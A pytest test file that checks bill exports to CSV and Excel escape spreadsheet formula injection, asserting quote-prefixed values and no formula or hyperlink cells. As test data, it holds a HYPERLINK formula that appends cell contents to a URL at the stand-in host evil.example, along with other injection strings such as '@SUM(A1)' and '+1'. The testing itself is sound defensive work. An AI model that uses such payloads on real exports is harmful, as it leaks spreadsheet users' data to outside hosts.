"""Bills as files for spreadsheets: all of them, typed, and no text that a spreadsheet would run."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import lxml.etree
import pytest
from sqlalchemy import Engine

from db.engine import transaction
from db.models import Bill
from exports import bill_sheets
from tests.api.portal_story import Person, Story, make_bill, tell_story

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def story(engine: Engine, olive: Person, tmp_path: Path) -> Story:
    """A run with one more bill, all of whose texts are formulas."""
    story = tell_story(engine, olive.viewer, tmp_path)
    with transaction(engine) as session:
        bill = make_hostile_bill(story, "hostile")
        session.add(bill)
    return story


def make_hostile_bill(story: Story, key: str) -> Bill:
    return Bill(
        session_id=story.job_id,
        username="@SUM(A1)",
        bill_key=key,
        number=FORMULA,
        issued_on=date(2026, 11, 24),
        amount=Decimal("-5.10"),
        currency="+1",
        portal_status="\t=1+1",
        fields={"=head": "=cell"},
        documents=[{"file_name": "-2+3.pdf", "file_url": "ab/x.pdf"}],
        first_seen_run=story.run_id,
        last_seen_run=story.run_id,
    )


EXPECTED = {
    "account": "'@SUM(A1)",
    "number": f"'{FORMULA}",
    "issued_on": "2026-11-24",
    "due_on": "",
    "amount": "-5.10",
    "currency": "'+1",
    "status": "'\t'=1+1",
    "documents": "'-2+3.pdf",
    "fields": '{"=head": "=cell"}',
}


@pytest.mark.parametrize("path", ["/runs/{run_id}/bills.csv", "/jobs/{job_id}/bills.csv"])
def test_csv_holds_every_bill_and_no_formula(olive: Person, story: Story, path: str) -> None:
    answer = olive.client.get(path.format(**vars(story)))
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="bills')
    assert answer.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) == len(olive.client.get(f"/runs/{story.run_id}/bills").json()["items"]) > 1
    (hostile,) = [row for row in rows if row["account"] == "'@SUM(A1)"]
    assert EXPECTED.items() <= hostile.items()


@pytest.mark.parametrize("path", ["/runs/{run_id}/bills.xlsx", "/jobs/{job_id}/bills.xlsx"])
def test_workbook_holds_every_bill_typed_and_no_formula(olive: Person, story: Story, path: str) -> None:
    answer = olive.client.get(path.format(**vars(story)))
    assert answer.headers["content-type"] == bill_sheets.EXCEL_TYPE
    (rows,) = read_workbook(answer.content)
    assert rows[0] == {name: name for name, _ in bill_sheets.COLUMNS}
    (hostile,) = [row for row in rows if row.get("account") == "'@SUM(A1)"]
    texts = {name: value for name, value in EXPECTED.items() if name not in ("issued_on", "amount") and value}
    assert texts.items() <= hostile.items()
    assert hostile["amount"] == -5.1
    assert hostile["issued_on"] == (date(2026, 11, 24) - date(1899, 12, 30)).days
    assert "due_on" not in hostile


def read_workbook(content: bytes) -> list[list[dict[str, str | float]]]:
    """The rows of each sheet by column name; fails on a formula or a link."""
    names = [name for name, _ in bill_sheets.COLUMNS]
    sheets: list[list[dict[str, str | float]]] = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for path in sorted(name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")):
            root = lxml.etree.fromstring(archive.read(path))
            assert root.find(f".//{SHEET}f") is None
            assert root.find(f".//{SHEET}hyperlink") is None
            sheets.append(
                [{names[ord(c.get("r")[0]) - 65]: read_cell(c) for c in row} for row in root.iter(f"{SHEET}row")]
            )
    return sheets


def read_cell(cell: lxml.etree._Element) -> str | float:
    if cell.get("t") == "inlineStr":
        return "".join(cell.itertext())
    return float(cell.findtext(f"{SHEET}v") or "nan")


def test_bills_beyond_one_page_and_one_sheet_are_all_there(
    engine: Engine, olive: Person, story: Story, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bill_sheets, "PAGE_SIZE", 3)
    monkeypatch.setattr(bill_sheets, "ROWS_A_SHEET", 7)
    with transaction(engine) as session:
        for number in range(20):
            make_bill(session, story.run_id, story.job_id, number=f"many-{number:02}")
    for kind in ("runs", "jobs"):
        answer = olive.client.get(f"/{kind}/{story.run_id if kind == 'runs' else story.job_id}/bills.csv")
        numbers = [row["account"] + row["number"] for row in csv.DictReader(io.StringIO(answer.text.lstrip("\ufeff")))]
        assert len(set(numbers)) == len(numbers) > 20
    sheets = read_workbook(olive.client.get(f"/jobs/{story.job_id}/bills.xlsx").content)
    assert len(sheets) > 3
    assert sorted(f"{row['account']}{row.get('number', '')}" for sheet in sheets for row in sheet[1:]) == sorted(
        numbers
    )
